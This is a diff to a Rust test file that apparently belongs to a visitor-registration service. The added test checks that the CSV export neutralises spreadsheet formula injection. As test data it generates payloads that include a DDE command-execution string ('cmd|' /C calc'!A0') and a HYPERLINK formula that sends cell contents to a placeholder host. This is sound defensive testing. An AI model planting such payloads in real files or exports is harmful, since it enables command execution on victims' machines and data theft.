@@ -97,6 +97,54 @@ fn who_was_there_is_told_with_a_reason_and_as_a_table_without_formulas() {
         .problem(422, "validation");
 }
 
+/// What begins a formula.
+const FORMULAS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
+
+/// Names that a spreadsheet would execute, 208 of them.
+fn injections() -> Vec<String> {
+    let before = [
+        "", " ", "\t", "\r", "\n", "\u{a0}", "\"", "'", "x;", "x; ", "x\n", "x\";", "x\",\"",
+    ];
+    let formulas = FORMULAS.iter().flat_map(|formula| {
+        [
+            "cmd|' /C calc'!A0",
+            "HYPERLINK(\"https://x.example?\"&A1,\"a\")",
+        ]
+        .map(|rest| format!("{formula}{rest}"))
+    });
+    formulas
+        .flat_map(|formula| before.map(|before| format!("{before}{formula}")))
+        .collect()
+}
+
+#[test]
+fn no_name_that_a_visitor_gives_is_a_formula_in_a_table_wherever_it_is_opened() {
+    let app = TestApp::start();
+    let (list, _) = visited(&app, &json!({}));
+    let names = injections();
+    assert!(names.len() >= 200);
+    for name in &names {
+        let document = json!({"name": name, "phone": name, "email": "ana@example.com"});
+        let token = app.sealed(&document.to_string(), &of(SIGN_IN), now());
+        let told = scan(&app, &entry(&list, &token));
+        assert_eq!(told.status, 201, "{}", told.text());
+    }
+    let told = ask(&app, &list, -600, 600, "text/csv");
+    let table = told.text();
+    let is_formula = |cell: &str| {
+        let begins = cell.trim_start_matches(|char: char| char.is_whitespace() || char == '"');
+        FORMULAS.iter().any(|formula| begins.starts_with(formula))
+    };
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), names.len() + 1, "each visit is a line");
+    let mut cells: Vec<&str> = rows.iter().flatten().collect();
+    // Where lists have semicolons, a spreadsheet sees no quotes in the middle of what it takes for a cell.
+    cells.extend(table.split(['\r', '\n', ';']));
+    let formulas: Vec<_> = cells.into_iter().filter(|cell| is_formula(cell)).collect();
+    assert_eq!(formulas, [""; 0]);
+}
+
 #[test]
 fn whoever_is_let_out_was_there_until_then() {
     let app = TestApp::start();
